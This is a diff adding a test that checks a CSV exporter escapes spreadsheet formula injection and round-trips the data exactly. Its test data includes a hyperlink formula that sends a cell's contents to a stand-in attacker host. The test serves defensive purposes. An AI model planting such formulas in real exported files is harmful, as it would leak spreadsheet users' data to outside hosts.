@@ -286,3 +286,25 @@ def test_cli_csv_needs_an_existing_plan(db: Path, tmp_path: Path) -> None:
     result = run(db, "import", str(path), "--plan", "nope")
     assert result.exit_code == 1
     assert "no plan 'nope'" in result.stderr and "--new-plan" in result.stderr
+
+
+def test_written_csv_never_holds_a_formula_and_reads_back_exactly() -> None:
+    doc = rich_plan()
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "@SUM(A1)", "'=kept"]
+    items = [
+        item.model_copy(update={"title": text, "description": "\tdesc " + text})
+        for item, text in zip(doc.items, texts, strict=True)
+    ]
+    items[0] = items[0].model_copy(update={"tags": ["-x", "b"]})
+    doc = doc.model_copy(update={"items": items})
+    data = write_items_csv(doc)
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
+    assert "''=kept" in cells
+    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA)
+    merged, _ = merge_items(doc.model_copy(update={"items": []}), sheet)
+    assert merged.items == [item.model_copy(update={"i18n": {}}) for item in doc.items]
